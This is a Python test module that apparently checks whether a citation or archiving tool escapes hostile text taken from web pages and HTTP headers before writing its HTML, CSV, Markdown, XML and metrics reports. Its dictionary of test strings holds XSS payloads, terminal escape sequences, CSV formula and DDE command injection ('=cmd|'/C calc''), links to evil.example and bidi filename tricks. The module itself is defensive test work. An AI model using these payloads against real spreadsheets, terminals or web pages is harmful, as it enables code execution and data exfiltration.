"""Words that a terminal, a spreadsheet, a browser or a feed reader would obey, in every field that a server fills."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

from lxml import etree
from markdown_it import MarkdownIt
from prometheus_client.parser import text_string_to_metric_families

from tests.chaos.suite import Task, Tried
from tests.program import Program
from tests.web.page import html_page
from tests.web.server import Web
from tests.web.site import Answer, Site, redirect, site

MARK = "zq7"
"""Stands in each of the words, so that what they became is found."""

WORDS = {
    "markup": f"<img src=x onerror={MARK}()><script>{MARK}()</script>",
    "the end of an attribute": f"\"'><svg/onload={MARK}()>",
    "the end of a script": f"</script></style></textarea></title><script>{MARK}()</script>",
    "the end of a CDATA section": f"]]><x>{MARK}</x><![CDATA[",
    "entities": f"&lt;script&gt;{MARK}()&lt;/script&gt; &#x3c;b onclick={MARK}()&#x3e;",
    "a template": f"{{{{ {MARK} }}}} {{% raw %}} ${{{MARK}}} <%= {MARK} %>",
    "a colour": f"\x1b[31m{MARK}\x1b[2J\x1b[H",
    "a window's title": f"\x1b]0;{MARK}\x07 \x1b]8;;https://evil.example/\x1b\\{MARK}\x1b]8;;\x1b\\",
    "a device control string": f"\x1bP+q{MARK}\x1b\\ \x1b]52;c;{MARK}\x07",
    "eight-bit controls": f"\x9b31m{MARK} \x9d0;{MARK}\x9c \x90{MARK}\x9c",
    "bells and blanks": f"{MARK}\x07\x08\x7f\x00\x0b\x0c",
    "line ends": f"{MARK}\r\n\r\nFrom: {MARK}\n# {MARK}\n\n| a | b |\n",
    "other line ends": f"{MARK}\u2028{MARK}\u2029{MARK}\x85{MARK}",
    "bidi marks": f"\u202e{MARK}\u2066 gpj.exe\u202c\u2069",
    "invisible letters": f"\u200b{MARK}\ufeff\U000e0041\u2060",
    "a formula": f'=HYPERLINK("https://evil.example/?{MARK}","{MARK}")',
    "a command": f"=cmd|'/C calc'!{MARK}",
    "another formula": f"+{MARK}+1",
    "a formula after a mark": f"@SUM({MARK})",
    "a formula behind a blank": f"\t=1+{MARK}",
    "a wide formula": f"\uff1d1+{MARK}",
    "a link of Markdown": f"[{MARK}](javascript:{MARK}()) ![x](https://evil.example/{MARK}.png)",
    "a table of Markdown": f"| {MARK} | <b>{MARK}</b> |\n|---|---|\n`{MARK}` ***{MARK}",
    "a reference of Markdown": f"[{MARK}]: javascript:{MARK}()\n<javascript:{MARK}()> <https://evil.example/{MARK}>",
    "a markup of rich": f"[bold red]{MARK}[/] [link=https://evil.example]{MARK}[/link]",
    "a workflow command": f"::error file=x::{MARK} ##[error]{MARK} %0A",
    "a metric": f'{MARK}" }} 1\nciteme{{x="{MARK}',
    "half a letter": f"{MARK}\ud800",
    "all of ASCII": MARK + "".join(map(chr, range(1, 128))),
}
"""Words by what they are meant to be."""

FIELDS = (
    "title",
    "og:title",
    "author",
    "date",
    "text",
    "canonical",
    "refresh",
    "location",
    "headers",
    "type",
    "status",
)
"""Where a page or an answer can carry them."""

_UNSEEN = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e007f]"
)
_FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"-?[\d.]+")


def faults_of_words(task: Task, count: int) -> Iterator[Tried]:
    """A run over `count` of the words, each in every field; then each file and each command's output is read."""
    chosen = dict(list(WORDS.items())[:count])
    folder = task.folder / "words"
    folder.mkdir()
    sites = [_site(number, text) for number, text in enumerate(chosen.values())]
    with Web(sites) as web:
        program = Program(folder, web, ("DOWNLOAD_TIMEOUT=3", "RETRY_TIMES=0"))
        program.cite(
            [
                {"title": f"The keepers {text[:40] if _writable(text) else ''}", "url": f"https://{each.host}/{field}"}
                for each, text in zip(sites, chosen.values(), strict=True)
                for field in FIELDS
            ]
        )
        ended = [program.check()]
    ended += [program.run(command, *words) for command, *words in (("history", "1"), ("report",), ("repair",))]
    said = {f"what {nth} said": each.out + each.err for nth, each in enumerate(ended)}
    wrong = [f"exit status {ended[0].status}: {ended[0].err[-300:]}"] if ended[0].status not in (0, 1) else []
    for name, text in said.items():
        wrong += [f"{name}: {found}" for found in _unseen(text)]
    for path in sorted(program.reports.rglob("*")):
        wrong += [f"{path.name}: {found}" for found in _faults_in(path)]
    for what in chosen:
        for field in FIELDS:
            yield Tried(f"{what} as {field}", "; ".join(wrong[:5]))


def _writable(text: str) -> bool:
    """Whether a person could write it into references.yaml."""
    return not re.search("[\x00-\x1f\x7f-\x9f\ud800-\udfff]", text)


def _site(number: int, text: str) -> Site:
    host, quoted = f"words-{number}.example", text.replace('"', "&quot;").replace("<", "&lt;")
    line = re.sub("[\r\n\x00\ud800]", " ", text).encode().decode("latin-1")
    html = {"Content-Type": "text/html; charset=utf-8"}

    def page(head: str, body: str = "") -> Answer:
        whole = f"<html><head>{head}</head><body><h1>{quoted}</h1>{body}{'<p>The sea went on.' * 20}</body></html>"
        return Answer(200, html, whole.encode("utf-8", "surrogatepass"))

    routes = {
        "/title": page(f"<title>{quoted}</title>"),
        "/og:title": page(f'<meta property="og:title" content="{quoted}">'),
        "/author": page(f'<title>x</title><meta name="author" content="{quoted}">', f"<p class=byline>By {quoted}"),
        "/date": page(f'<title>x</title><meta name="date" content="{quoted}"><time datetime="{quoted}">x</time>'),
        "/text": page("<title>x</title>", f"<article><p>{quoted}<p>{quoted}</article>"),
        "/canonical": page(f'<title>x</title><link rel=canonical href="https://x.example/{quoted}">'),
        "/refresh": page(f'<meta http-equiv=refresh content="0;url=/landed?{quoted}">'),
        "/location": redirect(f"/landed?{line}", 301),
        "/headers": Answer(404, {**html, **{f"X-{each}": line for each in ("A", "B")}, "Server": line}, b"gone"),
        "/type": Answer(200, {"Content-Type": f"text/html; charset={line}"}, html_page(MARK, MARK)),
        "/status": Answer(403, {**html, "WWW-Authenticate": line, "Retry-After": line}, html_page(MARK, MARK)),
        "*": Answer(404, html, html_page("Not found", "There is no such page.")),
    }
    return site(host, routes)


def _faults_in(path: Path) -> Iterator[str]:
    """What is wrong with a file of the reports; evidence and history are read by nobody but us."""
    read = {
        ".html": _html,
        ".csv": _csv,
        ".md": _markdown,
        ".xml": _xml,
        ".json": _json,
        ".prom": _metrics,
    }.get(path.suffix)
    if read is None or not path.is_file():
        return
    text = path.read_bytes().decode("utf-8")
    yield from _unseen(text)
    yield from read(text)


def _unseen(text: str) -> Iterator[str]:
    for match in list(_UNSEEN.finditer(text))[:2]:
        around = text[max(0, match.start() - 30) : match.end() + 30]
        yield f"{match[0]!a} in {around!a}"


class _Elements(HTMLParser):
    """Notes what a browser would run or follow."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in_script = tag == "script"
        for name, value in attrs:
            if name.startswith("on") and MARK in (value or ""):
                self.wrong.append(f"<{tag} {name}={value!a}>")
            if name in ("href", "src", "action") and not _harmless(value or "", tag):
                self.wrong.append(f"<{tag} {name}={value!a}>")

    def handle_endtag(self, tag: str) -> None:
        self._in_script = self._in_script and tag != "script"

    def handle_data(self, data: str) -> None:
        if self._in_script and MARK in data:
            self.wrong.append(f"a script has {data[:60]!a}")


def _harmless(address: str, tag: str) -> bool:
    scheme = urlsplit(address).scheme
    if scheme == "data":
        return tag in ("img", "link") and MARK not in address
    return scheme in ("", "http", "https") and not (tag in ("img", "script", "iframe") and scheme)


def _html(text: str) -> Iterator[str]:
    elements = _Elements()
    elements.feed(text)
    yield from elements.wrong


def _csv(text: str) -> Iterator[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    yield from (f"a row of {len(row)} cells" for row in rows if len(row) != len(rows[0]))
    for row in rows:
        yield from (
            f"the formula {cell[:60]!a}" for cell in row if cell.startswith(_FORMULA) and not _NUMBER.fullmatch(cell)
        )


def _markdown(text: str) -> Iterator[str]:
    yield from _html(MarkdownIt("commonmark", {"html": True}).enable("table").render(text))


def _xml(text: str) -> Iterator[str]:
    try:
        tree = etree.fromstring(text.encode(), etree.XMLParser(resolve_entities=False))
    except etree.XMLSyntaxError as error:
        yield str(error)
        return
    yield from (f"<{each.tag}>" for each in tree.iter(etree.Element) if str(each.tag) in ("x", "script", "img", "svg"))
    # A feed's reader shows what it holds as HTML.
    for content in tree.iter("{http://www.w3.org/2005/Atom}content", "{http://www.w3.org/2005/Atom}summary"):
        if content.get("type") == "html":
            yield from _html(content.text or "")


def _json(text: str) -> Iterator[str]:
    json.loads(text)
    yield from ()


def _metrics(text: str) -> Iterator[str]:
    for family in text_string_to_metric_families(text):
        if MARK in family.name:
            yield f"the metric {family.name!a}"
